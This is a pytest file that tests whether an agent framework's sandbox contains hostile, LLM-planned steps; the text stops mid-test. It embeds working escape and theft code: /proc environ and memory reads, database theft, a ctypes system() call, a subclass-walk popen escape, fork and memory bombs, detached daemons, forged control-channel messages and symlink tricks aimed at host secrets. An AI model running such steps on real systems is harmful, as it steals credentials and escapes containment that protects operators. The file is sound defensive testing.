"""Escape attempts through the real agent loop: the scripted LLM plans a subtask that attacks the host, the
sandbox runs it, and the test checks that the attack got nothing and that the server is unharmed.

Each attack catches its own exceptions and returns what it obtained, so the assertions are on facts ("the
secret is not in what the step returned"), not on one error message. The backend is whatever
AUTOCODE_SANDBOX_BACKEND selects (CI runs the file with bwrap and with the "process" fallback); attacks the
fallback cannot stop are skipped there, and the skip reasons (pytest -rs) list them.
"""

from __future__ import annotations

import asyncio
import hashlib
import json
import os
import re
import secrets
import shutil
import stat
import subprocess
import sys
import tempfile
import textwrap
import threading
import time
from pathlib import Path
from typing import Any

import pytest

from agent_core.sandbox import confine
from tests.conftest import plan, subtask, verdict
from tests.escape_helpers import (
    BACKEND_ENV, Canaries, TcpListener, database_is_intact, everything_the_run_exposed, expected_backend,
    host_ipv4_address, processes_with, wait_no_sandbox_processes,
)
from tests.system_packages import NETWORK_PACKAGES, require

REPO = Path(__file__).resolve().parents[1]
TOKEN = secrets.token_hex(6)
SECRET = f"escape-secret-{TOKEN}"
API_KEY = "sk-test-key-never-in-sandbox"  # the key tests/conftest.py configures
HOME_CANARY = Path.home() / f".autocode_escape_canary-{TOKEN}"
HOST_PROBE = confine.probe()  # same kernel as the sandbox: Landlock / seccomp availability
FALLBACK_IS_EXPECTED = expected_backend() == "process"
# A uid range of this test process's own (default: 61000-61063): other AutoCode servers or test sessions on the
# host would otherwise share the run uids, and a run's kill(-1) sweep or RLIMIT_NPROC would reach into ours
# (and their steps would show up in our leftover-process checks).
UID_BASE = 61064 + 64 * (os.getpid() % 64)


def code(template: str, **values: Any) -> str:
    """Dedent a step's source and put values in for its __PLACEHOLDERS__ (as Python literals)."""
    source = textwrap.dedent(template).strip() + "\n"
    for name, value in values.items():
        source = source.replace(f"__{name.upper()}__", repr(value))
    return source


def fallback_cannot(agent, what: str, reason: str) -> None:
    """Skip an attack the fallback backend cannot stop. With AUTOCODE_SANDBOX_BACKEND=process that is the deliberate
    skip `-rs` lists; when `auto` fell back, the host lacks a package bubblewrap's sandbox needs, and the skip names
    it (tests/system_packages.py: a failure under AUTOCODE_TESTS_REQUIRE_SYSTEM_PACKAGES)."""
    if agent.executor.name == "process":
        if BACKEND_ENV != "process":
            require("bubblewrap", *(NETWORK_PACKAGES if agent.executor.network else ()))
        pytest.skip(f"fallback backend cannot stop {what}: {reason}")


# ------------------------------------------------------------------------------------------------ fixtures


@pytest.fixture(autouse=True)
def parent_secrets(monkeypatch):
    """Secrets in the server's own environment, set before any agent (or sandbox worker) is built."""
    monkeypatch.setenv("AUTOCODE_TEST_SECRET", SECRET)
    monkeypatch.setenv("OPENAI_API_KEY", API_KEY)
    return SECRET


@pytest.fixture
async def escape_agent(make_agent, parent_secrets):
    """`make_agent` on the backend the environment selects, without warm workers, stopped afterwards.

    The run directories get a root of their own that the run uids can traverse (mode 0711, like the default
    /tmp/autocode-sandbox): under pytest's tmp_path (/tmp/pytest-of-root is 0700) the process fallback cannot
    grant the step its working directory, and every write there fails.
    """
    agents = []
    runs_root = Path(tempfile.mkdtemp(prefix=f"autocode-escape-{TOKEN}-"))
    os.chmod(runs_root, 0o711)

    def make(**overrides: Any):
        overrides.setdefault("workdir_root", runs_root)
        overrides.setdefault("sandbox_backend", BACKEND_ENV)
        overrides.setdefault("sandbox_warm", 0)
        overrides.setdefault("sandbox_uid_base", UID_BASE)
        overrides.setdefault("sandbox_max_workers", 64)
        overrides.setdefault("step_timeout", 5)
        agent = make_agent(**overrides)
        agents.append(agent)
        return agent

    yield make
    for agent in agents:
        await agent.executor.stop()
    shutil.rmtree(runs_root, ignore_errors=True)


@pytest.fixture
def canaries():
    """A secret file in the host's home directory (mode 0644) and the repository's README, watched."""
    HOME_CANARY.write_text(f"home canary {SECRET}\n")
    os.chmod(HOME_CANARY, 0o644)
    watched = Canaries()
    watched.watch(HOME_CANARY)
    watched.watch(REPO / "README.md")
    yield watched
    HOME_CANARY.unlink(missing_ok=True)


@pytest.fixture
def check_unharmed(llm_server, canaries):
    """`await check(agent, *results)`: nothing leaked and the server, its files and the host are intact."""

    async def check(agent, *results) -> None:
        assert os.environ.get("AUTOCODE_TEST_SECRET") == SECRET
        assert os.environ.get("OPENAI_API_KEY") == API_KEY
        database_is_intact(agent.storage.path)
        for result in results:
            assert agent.storage.get_run(result.run_id)["status"] == result.status
            exposed = everything_the_run_exposed(result, llm_server.chat_requests())
            assert SECRET not in exposed
            assert API_KEY not in exposed
        canaries.verify()
        settings = agent.settings
        left = await wait_no_sandbox_processes(settings.sandbox_uid_base, settings.sandbox_max_workers)
        assert left == [], f"processes of the sandbox uids outlived the run: {left}"
        runs_root = Path(settings.workdir_root) / "autocode-sandbox"
        if runs_root.exists():
            assert list(runs_root.iterdir()) == [], "a run's working directory was left on the host"

    return check


async def run_attack(agent, llm_server, *steps: dict[str, Any], ok: bool = True):
    llm_server.reply_json(plan(*steps, thought="attack"))
    llm_server.reply_json(verdict("done" if ok else "", ok=ok, thoughts="attack finished"))
    return await agent.run("attack the host")


def output_of(result, index: int = 0) -> dict[str, Any]:
    """The output of a step that must have run to completion (its error otherwise, for the failure message)."""
    step = result.steps[index]
    assert step.ok, f"step {step.tool_name} did not complete: {step.error}\n{step.traceback or ''}{step.stderr}"
    return step.output


async def run_still_works(agent, llm_server) -> None:
    step = subtask("still_fine", "def still_fine():\n    return {'sum': sum(range(10))}")
    result = await run_attack(agent, llm_server, step)
    assert result.status == "succeeded", result.error
    assert output_of(result) == {"sum": 45}


# ------------------------------------------------------------------------------------------------ secrets


async def test_parent_environment_is_not_inherited(escape_agent, llm_server, check_unharmed):
    step = subtask("read_env", code("""
        import os
        def read_env():
            return {"env": dict(os.environ)}
    """))
    agent = escape_agent()

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    env = output_of(result)["env"]
    assert "AUTOCODE_TEST_SECRET" not in env and "OPENAI_API_KEY" not in env
    assert SECRET not in json.dumps(env) and API_KEY not in json.dumps(env)
    await check_unharmed(agent, result)


async def test_proc_environ_of_other_processes_is_unreadable(escape_agent, llm_server, check_unharmed):
    agent = escape_agent()
    step = subtask("scan_proc", code("""
        import os
        def scan_proc():
            wanted = ("AUTOCODE_TEST_" + "SECRET", "OPENAI_API_" + "KEY")
            leaks, readable, denied = [], 0, 0
            try:
                names = os.listdir("/proc")
            except OSError:  # the fallback lets a step read only its own /proc entries
                names = [str(os.getpid()), "1", str(__SERVER_PID__)]
            for name in names:
                if not name.isdigit():
                    continue
                try:
                    with open(f"/proc/{name}/environ", "rb") as handle:
                        data = handle.read().decode("utf-8", "replace")
                except OSError:
                    denied += 1
                    continue
                readable += 1
                if any(w in data for w in wanted):
                    leaks.append({"pid": name, "environ": data})
            server = f"/proc/{__SERVER_PID__}"
            direct = {}
            for what, path in (("environ", server + "/environ"), ("mem", server + "/mem"),
                               ("root", server + "/root" + __DB_PATH__), ("cwd", server + "/cwd")):
                try:
                    if what == "cwd":
                        direct[what] = {"got": os.listdir(path)}
                    else:
                        with open(path, "rb") as handle:
                            direct[what] = {"got": handle.read(4096).decode("utf-8", "replace")}
                except OSError as exc:
                    direct[what] = {"error": f"{type(exc).__name__}: {exc}"}
            return {"leaks": leaks, "readable": readable, "denied": denied, "direct": direct}
    """, server_pid=os.getpid(), db_path=str(agent.storage.path.resolve())))

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    output = output_of(result)
    assert output["leaks"] == []
    for what, outcome in output["direct"].items():
        assert "error" in outcome, f"/proc/<server pid>/{what} was readable: {outcome}"
    await check_unharmed(agent, result)


async def test_database_file_is_out_of_reach(escape_agent, llm_server, check_unharmed):
    agent = escape_agent()
    db_path = str(agent.storage.path.resolve())
    step = subtask("steal_db", code("""
        import os, sqlite3
        def steal_db():
            found = {}
            def attempt(name, action):
                try:
                    found[name] = {"got": action()}
                except Exception as exc:
                    found[name] = {"error": f"{type(exc).__name__}: {exc}"}
            attempt("read", lambda: open(__DB__, "rb").read(64).decode("latin-1"))
            attempt("list_dir", lambda: os.listdir(os.path.dirname(__DB__)))
            attempt("sqlite", lambda: sqlite3.connect(f"file:{__DB__}?mode=ro", uri=True)
                    .execute("SELECT task FROM runs").fetchall())
            attempt("append", lambda: open(__DB__, "ab").write(b"garbage"))
            return found
    """, db=db_path))

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    found = output_of(result)
    assert {name: "error" in outcome for name, outcome in found.items()} == {
        "read": True, "list_dir": True, "sqlite": True, "append": True}, found
    await check_unharmed(agent, result)


async def test_home_directory_canary_is_unreadable(escape_agent, llm_server, check_unharmed):
    step = subtask("read_home", code("""
        import os
        def read_home():
            found = {}
            try:
                found["canary"] = {"got": open(__CANARY__).read()}
            except OSError as exc:
                found["canary"] = {"error": f"{type(exc).__name__}: {exc}"}
            try:
                found["listing"] = {"got": os.listdir(__HOME__)}
            except OSError as exc:
                found["listing"] = {"error": f"{type(exc).__name__}: {exc}"}
            return found
    """, canary=str(HOME_CANARY), home=str(HOME_CANARY.parent)))
    agent = escape_agent()

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    found = output_of(result)
    assert "error" in found["canary"], found
    assert HOME_CANARY.name not in json.dumps(found.get("listing"))
    await check_unharmed(agent, result)


async def test_world_readable_host_file_outside_the_sandbox_is_unreadable(escape_agent, llm_server, check_unharmed):
    # Unlike the home directory (mode 0700), nothing but the sandbox itself protects this file.
    folder = Path("/tmp") / f"autocode-escape-{TOKEN}"
    folder.mkdir(mode=0o755, exist_ok=True)
    os.chmod(folder, 0o755)
    canary = folder / "world-readable.txt"
    canary.write_text(f"world readable {SECRET}\n")
    os.chmod(canary, 0o644)
    step = subtask("read_world", code("""
        def read_world():
            try:
                return {"got": open(__CANARY__).read()}
            except OSError as exc:
                return {"error": f"{type(exc).__name__}: {exc}"}
    """, canary=str(canary)))
    agent = escape_agent()
    try:
        if agent.executor.name == "process" and not HOST_PROBE["landlock_abi"]:
            pytest.skip("fallback backend cannot stop reading world-readable host files: Landlock is unavailable "
                        "on this kernel, and the uid drop alone allows what every user may read")
        result = await run_attack(agent, llm_server, step)
    finally:
        shutil.rmtree(folder, ignore_errors=True)

    assert result.status == "succeeded", result.error
    assert "error" in output_of(result), output_of(result)
    await check_unharmed(agent, result)


async def test_project_directory_cannot_be_written(escape_agent, llm_server, check_unharmed):
    planted = REPO / f"escape_probe_{TOKEN}.txt"
    step = subtask("tamper_repo", code("""
        def tamper_repo():
            found = {}
            try:
                with open(__PLANTED__, "w") as handle:
                    handle.write("planted by a step")
                found["create"] = "created"
            except OSError as exc:
                found["create"] = f"{type(exc).__name__}: {exc}"
            try:
                with open(__README__, "a") as handle:
                    handle.write("\\nappended by a step\\n")
                found["append"] = "appended"
            except OSError as exc:
                found["append"] = f"{type(exc).__name__}: {exc}"
            return found
    """, planted=str(planted), readme=str(REPO / "README.md")))
    agent = escape_agent()

    try:
        result = await run_attack(agent, llm_server, step)
        assert not planted.exists(), "the step created a file in the project directory"
    finally:
        planted.unlink(missing_ok=True)

    assert result.status == "succeeded", result.error
    found = output_of(result)
    assert found["create"] != "created" and found["append"] != "appended", found
    assert found["create"].split(":")[0] in ("PermissionError", "FileNotFoundError", "OSError"), found
    await check_unharmed(agent, result)  # README.md is a watched canary: unchanged bytes and mtime


# ------------------------------------------------------------------------------------------------ network

CONNECT = """
    import socket
    def connect_out():
        found = {}
        for host in __HOSTS__:
            try:
                with socket.create_connection((host, __PORT__), timeout=2):
                    found[host] = "connected"
            except OSError as exc:
                found[host] = f"{type(exc).__name__}: {exc}"
        return found
"""


async def test_network_off_cannot_reach_a_host_listener(escape_agent, llm_server, check_unharmed):
    agent = escape_agent()
    if agent.executor.name == "process" and not HOST_PROBE["seccomp"]:
        pytest.skip("fallback backend cannot stop network access: seccomp is unavailable, and without a network "
                    f"namespace nothing else blocks sockets ({HOST_PROBE['seccomp_reason']})")
    with TcpListener("127.0.0.1") as listener:
        step = subtask("connect_out", code(CONNECT, hosts=["127.0.0.1", "localhost"], port=listener.port))
        result = await run_attack(agent, llm_server, step)
        await asyncio.sleep(0.2)  # a connection still in flight would be recorded by now

    assert result.status == "succeeded", result.error
    assert "connected" not in output_of(result).values(), output_of(result)
    assert listener.connections == []
    await check_unharmed(agent, result)


async def test_network_on_cannot_reach_host_loopback(escape_agent, llm_server, check_unharmed):
    agent = escape_agent(sandbox_network=True)
    fallback_cannot(agent, "connections to the host's loopback with network on",
                    "without a network namespace the step shares the host's network stack")
    with TcpListener("127.0.0.1") as listener:
        step = subtask("connect_out", code(CONNECT, hosts=["127.0.0.1", "10.0.2.2"], port=listener.port))
        result = await run_attack(agent, llm_server, step)
        await asyncio.sleep(0.2)  # a connection still in flight would be recorded by now

    assert result.status == "succeeded", result.error
    assert "connected" not in output_of(result).values(), output_of(result)
    assert listener.connections == []
    await check_unharmed(agent, result)


async def test_network_on_cannot_reach_host_services_through_the_host_address(
    escape_agent, llm_server, check_unharmed,
):
    address = host_ipv4_address()
    if address is None:
        pytest.skip("this host has no non-loopback IPv4 address to try")
    agent = escape_agent(sandbox_network=True)
    fallback_cannot(agent, "connections to host services with network on",
                    "without a network namespace the step shares the host's network stack")
    with TcpListener("0.0.0.0") as listener:
        step = subtask("connect_out", code(CONNECT, hosts=[address], port=listener.port))
        result = await run_attack(agent, llm_server, step)
        await asyncio.sleep(0.2)  # a connection still in flight would be recorded by now

    assert result.status == "succeeded", result.error
    assert "connected" not in output_of(result).values(), output_of(result)
    assert listener.connections == []
    await check_unharmed(agent, result)


# ------------------------------------------------------------------------------------------------ resources


async def test_fork_bomb_is_contained(escape_agent, llm_server, check_unharmed):
    step = subtask("fork_bomb", code("""
        import os
        def fork_bomb():
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    """))
    agent = escape_agent(step_timeout=3, step_max_procs=32)

    started = time.monotonic()
    result = await run_attack(agent, llm_server, step, ok=False)
    elapsed = time.monotonic() - started

    assert result.status == "failed"
    error = result.steps[0].error or ""
    assert error.startswith("TimeoutError") or "killed" in error, error
    assert elapsed < 15
    await check_unharmed(agent, result)
    await run_still_works(agent, llm_server)


async def test_memory_bomb_is_a_memory_error(escape_agent, llm_server, check_unharmed):
    caught = subtask("memory_bomb", code("""
        def memory_bomb():
            found = {}
            try:
                huge = bytearray(8 * 1024 ** 3)
                found["bytearray"] = len(huge)
            except MemoryError:
                found["bytearray"] = "MemoryError"
            chunks = []
            try:
                while True:
                    chunks.append(bytearray(8 * 1024 ** 2))
            except MemoryError:
                found["growing_list_mib"] = 8 * len(chunks)
            del chunks
            return found
    """))
    uncaught = subtask("memory_bomb_uncaught", code("""
        def memory_bomb_uncaught(previous_output):
            hog = []
            while True:
                hog.append(" " * (16 * 1024 ** 2))
    """), input_from="memory_bomb")
    agent = escape_agent(step_memory_mb=256)

    result = await run_attack(agent, llm_server, caught, uncaught, ok=False)

    assert [s.status for s in result.steps] == ["ok", "error"]
    found = output_of(result)
    assert found["bytearray"] == "MemoryError"
    assert found["growing_list_mib"] < 256
    error = result.steps[1].error or ""
    assert error.startswith("MemoryError") or "killed" in error, error
    await check_unharmed(agent, result)
    await run_still_works(agent, llm_server)


async def test_infinite_loop_times_out(escape_agent, llm_server, check_unharmed):
    step = subtask("spin", "def spin():\n    while True:\n        pass\n")
    agent = escape_agent(step_timeout=2)

    started = time.monotonic()
    result = await run_attack(agent, llm_server, step, ok=False)
    elapsed = time.monotonic() - started

    error = result.steps[0].error or ""
    assert error.startswith("TimeoutError"), error
    assert 1.9 <= result.steps[0].duration_ms / 1000 <= 4.5
    assert elapsed < 8
    await check_unharmed(agent, result)


async def test_sleep_past_the_timeout_times_out(escape_agent, llm_server, check_unharmed):
    step = subtask("nap", "import time\ndef nap():\n    time.sleep(60)\n    return {'slept': 60}\n")
    agent = escape_agent(step_timeout=2)

    started = time.monotonic()
    result = await run_attack(agent, llm_server, step, ok=False)
    elapsed = time.monotonic() - started

    assert (result.steps[0].error or "").startswith("TimeoutError"), result.steps[0].error
    assert elapsed < 10
    await check_unharmed(agent, result)


async def test_one_huge_file_is_capped(escape_agent, llm_server, check_unharmed):
    step = subtask("huge_file", code("""
        def huge_file():
            chunk = b"\\0" * (1024 * 1024)
            written = 0
            try:
                with open("huge.bin", "wb") as handle:
                    for _ in range(1024):
                        handle.write(chunk)
                        written += len(chunk)
            except OSError as exc:
                return {"written_mib": written // (1024 * 1024), "error": type(exc).__name__, "errno": exc.errno}
            return {"written_mib": written // (1024 * 1024), "error": None, "errno": None}
    """))
    agent = escape_agent(workdir_mb=64)

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    found = output_of(result)
    assert found["error"] is not None, found
    assert found["errno"] in (27, 28), found  # EFBIG (RLIMIT_FSIZE) or ENOSPC (the tmpfs cap)
    assert found["written_mib"] <= 64 + 1
    await check_unharmed(agent, result)


async def test_many_files_stop_at_the_workdir_cap(escape_agent, llm_server, check_unharmed):
    agent = escape_agent(workdir_mb=64)
    fallback_cannot(agent, "filling the disk with many files",
                    "the working directory is a plain host directory; only the size of each file is capped "
                    "(RLIMIT_FSIZE), not the total")
    step = subtask("many_files", code("""
        import os
        def many_files():
            chunk = b"x" * 65536
            made = 0
            os.makedirs("many", exist_ok=True)
            try:
                for index in range(10000):
                    with open(f"many/{index}.bin", "wb") as handle:
                        handle.write(chunk)
                    made += 1
            except OSError as exc:
                return {"made": made, "error": type(exc).__name__, "errno": exc.errno}
            return {"made": made, "error": None, "errno": None}
    """))

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    found = output_of(result)
    assert found["errno"] == 28, found  # ENOSPC
    assert found["made"] * 64 <= 64 * 1024, found
    await check_unharmed(agent, result)


# ------------------------------------------------------------------------------------------------ processes


async def test_detached_processes_do_not_outlive_the_step(escape_agent, llm_server, check_unharmed):
    marker = f"300.{int(TOKEN, 16) % 1000000}"  # `sleep 300.NNNNNN`: a command line no one else runs
    spawn = subtask("spawn_daemons", code("""
        import os, subprocess, time
        def spawn_daemons():
            sleeper = subprocess.Popen(["sleep", __MARKER__], start_new_session=True)
            first = os.fork()
            if first == 0:
                try:
                    os.setsid()
                    if os.fork() == 0:
                        with open("daemon.pid", "w") as handle:
                            handle.write(str(os.getpid()))
                        while True:
                            time.sleep(1)
                finally:
                    os._exit(0)
            os.waitpid(first, 0)
            for _ in range(200):
                if os.path.exists("daemon.pid") and open("daemon.pid").read():
                    break
                time.sleep(0.01)
            return {"sleeper": sleeper.pid, "daemon": int(open("daemon.pid").read())}
    """, marker=marker))
    check = subtask("check_daemons", code("""
        import os
        def check_daemons(previous_output):
            states = {}
            for name, pid in previous_output.items():
                try:
                    with open(f"/proc/{pid}/stat") as handle:
                        states[name] = handle.read().rsplit(")", 1)[1].split()[0]
                except OSError:
                    states[name] = "gone"
            return states
    """), input_from="spawn_daemons")
    agent = escape_agent()

    result = await run_attack(agent, llm_server, spawn, check)

    assert result.status == "succeeded", result.error
    pids = output_of(result)
    assert set(pids) == {"sleeper", "daemon"}
    assert all(state in ("gone", "Z", "X") for state in output_of(result, 1).values()), output_of(result, 1)
    await check_unharmed(agent, result)
    assert processes_with(f"sleep {marker}") == []


async def test_ctypes_system_runs_only_inside_the_sandbox(escape_agent, llm_server, check_unharmed):
    pwned = Path(f"/tmp/pwned_{TOKEN}")
    step = subtask("call_libc", code("""
        import ctypes, os
        def call_libc():
            libc = ctypes.CDLL(None)
            status = libc.system(("id > " + __PWNED__ + " 2>&1; id > id.txt 2>&1; "
                                  "cat /proc/1/environ > leak.txt 2>&1").encode())
            found = {"status": status}
            for name in (__PWNED__, "id.txt", "leak.txt"):
                try:
                    with open(name, "rb") as handle:
                        found[name] = handle.read().decode("utf-8", "replace")
                except OSError as exc:
                    found[name] = f"{type(exc).__name__}: {exc}"
            return found
    """, pwned=str(pwned)))
    agent = escape_agent()

    try:
        result = await run_attack(agent, llm_server, step)
        assert not pwned.exists(), "libc system() wrote a file on the host"
    finally:
        pwned.unlink(missing_ok=True)

    assert result.status == "succeeded", result.error
    found = output_of(result)
    assert "AUTOCODE_TEST_SECRET" not in json.dumps(found)
    if "uid=" in found["id.txt"]:  # it ran: as the run's uid, not root
        uid = int(re.search(r"uid=(\d+)", found["id.txt"]).group(1))
        base = agent.settings.sandbox_uid_base
        assert base <= uid < base + agent.settings.sandbox_max_workers
    await check_unharmed(agent, result)


async def test_python_introspection_reaches_nothing_of_the_server(escape_agent, llm_server, check_unharmed):
    # smolagents-style escapes: they matter when generated code runs inside the server's interpreter. Here the
    # step is another process, so walking frames, subclasses and the heap finds only the sandbox's own objects.
    step = subtask("introspect", code("""
        import gc, sys
        def introspect():
            server_names = {"Agent", "Storage", "SandboxExecutor", "Settings", "LLMClient", "ToolHost", "_Run",
                            "FakeOpenAI", "pytest"}
            needles = ("sk-test-" + "key", "AUTOCODE_TEST_" + "SECRET=", "OPENAI_API_" + "KEY")
            findings, modules_seen = [], []

            def inspect_globals(where, namespace):
                modules_seen.append(namespace.get("__name__"))
                for name in server_names & set(namespace):
                    findings.append(f"{where}: global {name} in {namespace.get('__name__')}")

            frame, depth = sys._getframe(), 0
            while frame is not None:
                inspect_globals(f"frame {depth}", frame.f_globals)
                frame, depth = frame.f_back, depth + 1
            try:
                raise RuntimeError("walk my traceback")
            except RuntimeError as exc:
                frame = exc.__traceback__.tb_frame
                while frame is not None:
                    inspect_globals("traceback", frame.f_globals)
                    frame = frame.f_back
            for module in list(sys.modules):
                if module.split(".")[0] in ("agent_core", "storage", "tools", "bots", "openai", "tests", "_pytest"):
                    findings.append(f"module {module}")
            for obj in gc.get_objects():
                if isinstance(obj, dict):
                    for value in list(obj.values()):
                        if isinstance(value, str) and value not in needles and any(n in value for n in needles):
                            findings.append("heap string: " + value[:200])
            cat = None
            for cls in ().__class__.__base__.__subclasses__():
                if cls.__name__ == "_wrap_close":
                    try:
                        cat = cls.__init__.__globals__["popen"]("cat " + __CANARY__ + " 2>&1").read()
                    except Exception as exc:
                        cat = f"{type(exc).__name__}: {exc}"
            return {"findings": findings, "cat": cat, "modules_seen": sorted(set(map(str, modules_seen)))}
    """, canary=str(HOME_CANARY)))
    agent = escape_agent()

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    found = output_of(result)
    assert found["findings"] == []
    assert found["cat"] is not None and "home canary" not in found["cat"], found["cat"]
    assert not any(m.startswith(("agent_core", "tests", "_pytest")) for m in found["modules_seen"])
    await check_unharmed(agent, result)


async def test_step_cannot_regain_privileges_or_signal_the_server(escape_agent, llm_server, check_unharmed):
    # Signal 0 only probes the permission: a successful attack must not take the test process down with it.
    step = subtask("regain_root", code("""
        import os
        def regain_root():
            found = {"uid": os.getuid()}
            with open("/proc/self/status") as handle:
                for line in handle:
                    key, _, value = line.partition(":")
                    if key in ("CapPrm", "CapEff", "CapAmb", "NoNewPrivs"):
                        found[key] = value.strip()
            for name, action in (("setuid0", lambda: os.setuid(0)), ("setgid0", lambda: os.setgid(0)),
                                 ("signal_parent", lambda: os.kill(os.getppid(), 0)),
                                 ("signal_pid1", lambda: os.kill(1, 0)),
                                 ("signal_server", lambda: os.kill(__SERVER_PID__, 0))):
                try:
                    action()
                    found[name] = "permitted"
                except OSError as exc:
                    found[name] = type(exc).__name__
            return found
    """, server_pid=os.getpid()))
    agent = escape_agent()

    result = await run_attack(agent, llm_server, step)

    found = output_of(result)
    base = agent.settings.sandbox_uid_base
    assert base <= found["uid"] < base + agent.settings.sandbox_max_workers
    assert (int(found["CapPrm"], 16), int(found["CapEff"], 16), int(found["CapAmb"], 16)) == (0, 0, 0), found
    if HOST_PROBE["landlock_abi"] or HOST_PROBE["seccomp"]:
        assert found["NoNewPrivs"] == "1"
    for name in ("setuid0", "setgid0", "signal_parent", "signal_pid1", "signal_server"):
        assert found[name] in ("PermissionError", "ProcessLookupError"), found
    await check_unharmed(agent, result)


async def test_step_cannot_talk_on_the_worker_control_channel(escape_agent, llm_server, check_unharmed):
    step = subtask("forge_worker", code("""
        import json, os, socket
        def forge_worker():
            with open("outputs/report.txt", "w") as handle:
                handle.write("the step's real output")
            foreign = {}
            for name in os.listdir("/proc/self/fd"):
                fd = int(name)
                try:
                    probe = socket.socket(fileno=os.dup(fd))
                except OSError:
                    continue
                kind = probe.type
                if kind != socket.SOCK_STREAM:  # the step's own channel to the server is a stream socket
                    try:
                        probe.send(json.dumps({"op": "exited", "returncode": 0}).encode())
                        foreign[name] = f"type {int(kind)}: forged a worker reply"
                    except OSError as exc:
                        foreign[name] = f"type {int(kind)}: {type(exc).__name__}"
                probe.close()
            return {"foreign_sockets": foreign}
    """))
    agent = escape_agent()

    result = await run_attack(agent, llm_server, step)

    found = output_of(result)
    assert found["foreign_sockets"] == {}, found
    assert [a["name"] for a in result.artifacts] == ["report.txt"]
    await check_unharmed(agent, result)


# ------------------------------------------------------------------------------------------------ tools

ESCAPE_TOOLS_FILE = '''
TOOLS = [
    {
        "lib_names": ["hashlib"],
        "instructions": "Signs a text with the operator's secret.",
        "use_exactly_code_example": True,
        "code_example": """
def escape_sign(text: str) -> dict:
    import hashlib, os
    secret = os.environ["ESCAPE_TOOL_SECRET"]
    return {"digest": hashlib.sha256((secret + text).encode()).hexdigest()}
""",
    },
]
'''


async def test_exact_tool_uses_its_secret_that_the_step_cannot_read(
    escape_agent, llm_server, check_unharmed, tmp_path, monkeypatch,
):
    tool_secret = f"tool-secret-{TOKEN}"
    monkeypatch.setenv("ESCAPE_TOOL_SECRET", tool_secret)
    tools_file = tmp_path / "escape_tools.py"
    tools_file.write_text(ESCAPE_TOOLS_FILE)
    step = subtask("sign_and_snoop", code("""
        import os
        def sign_and_snoop():
            name = "ESCAPE_TOOL_" + "SECRET"
            environ_hits = []
            try:
                pids = os.listdir("/proc")
            except OSError:  # the fallback lets a step read only its own /proc entries
                pids = [str(pid) for pid in range(1, 1 << 16) if os.path.exists(f"/proc/{pid}")]
            for pid in pids:
                if pid.isdigit():
                    try:
                        with open(f"/proc/{pid}/environ", "rb") as handle:
                            if name.encode() in handle.read():
                                environ_hits.append(pid)
                    except OSError:
                        pass
            return {"signed": escape_sign("hello"), "env": os.environ.get(name), "environ_hits": environ_hits}
    """))
    agent = escape_agent(tools_file=tools_file)

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    expected = hashlib.sha256(f"{tool_secret}hello".encode()).hexdigest()
    assert output_of(result) == {"signed": {"digest": expected}, "env": None, "environ_hits": []}
    assert tool_secret not in everything_the_run_exposed(result, llm_server.chat_requests())
    await check_unharmed(agent, result)


# ------------------------------------------------------------------------------------------------ leftovers


async def test_files_do_not_outlive_the_run(escape_agent, llm_server, check_unharmed):
    names = [f"/dev/shm/autocode-escape-{TOKEN}", f"/tmp/autocode-escape-{TOKEN}-tmp"]
    plant = subtask("plant", code("""
        import os
        def plant():
            payload = os.urandom(8).hex()
            planted = {}
            for path in __NAMES__:
                try:
                    with open(path, "w") as handle:
                        handle.write(payload)
                    planted[path] = "written"
                except OSError as exc:
                    planted[path] = f"{type(exc).__name__}: {exc}"
            return {"payload": payload, "planted": planted}
    """, names=names))
    harvest = subtask("harvest", code("""
        def harvest():
            found = {}
            for path in __NAMES__:
                try:
                    found[path] = open(path).read()
                except OSError as exc:
                    found[path] = f"{type(exc).__name__}: {exc}"
            return found
    """, names=names))
    agent = escape_agent()
    try:
        first = await run_attack(agent, llm_server, plant)
        on_host = [path for path in names if os.path.lexists(path)]
        second = await run_attack(agent, llm_server, harvest)
    finally:
        for path in names:
            try:
                if stat.S_ISREG(os.lstat(path).st_mode) and os.lstat(path).st_uid != 0:
                    os.unlink(path)
            except FileNotFoundError:
                pass

    assert (first.status, second.status) == ("succeeded", "succeeded"), (first.error, second.error)
    payload = output_of(first)["payload"]
    assert payload not in json.dumps(output_of(second)), output_of(second)
    assert on_host == [], f"files a step wrote are on the host after its run: {on_host}"
    await check_unharmed(agent, first, second)


# ------------------------------------------------------------------------------------------------ outputs and artifacts
# (issue 11, items 1 and 7: collection never leaves the run's directory; artifact count caps)


@pytest.fixture
def host_secret_dir():
    """A world-readable host directory (0755) with a 0644 secret file: only the sandbox protects it."""
    folder = Path("/tmp") / f"autocode-escape-{TOKEN}-hostdir"
    folder.mkdir(mode=0o755, exist_ok=True)
    os.chmod(folder, 0o755)
    secret = folder / "deploy.env"
    secret.write_text(f"OPENAI_API_KEY={SECRET}\n")
    os.chmod(secret, 0o644)
    yield folder
    shutil.rmtree(folder, ignore_errors=True)


def stored_artifact_bytes(agent, result) -> bytes:
    return b"\n".join(a["data"] for a in agent.storage.artifacts(result.run_id, with_data=True))


async def test_symlinked_outputs_directory_collects_nothing_of_the_host(
    escape_agent, llm_server, check_unharmed, host_secret_dir,
):
    step = subtask("swap_outputs", code("""
        import os, shutil
        def swap_outputs():
            shutil.rmtree("outputs")
            os.symlink(__HOSTDIR__, "outputs")
            return {"swapped": os.path.islink("outputs")}
    """, hostdir=str(host_secret_dir)))
    agent = escape_agent()

    result = await run_attack(agent, llm_server, step)

    assert result.status == "succeeded", result.error
    assert output_of(result) == {"swapped": True}
    assert result.artifacts == [], result.artifacts
    assert SECRET.encode() not in stored_artifact_bytes(agent, result)
    await check_unharmed(agent, result)


async def test_links_inside_outputs_collect_nothing_of_the_host(
    escape_agent, llm_server, check_unharmed, host_secret_dir,
):
    step = subtask("plant_links", code("""
        import os
        def plant_links():
            found = {}
            with open("outputs/real.txt", "w") as handle:
                handle.write("the step's own file")
            for name, action in (
                ("file_link", lambda: os.symlink(__SECRET_FILE__, "outputs/deploy.env")),
                ("dir_link", lambda: os.symlink(__HOSTDIR__, "outputs/hostdir")),
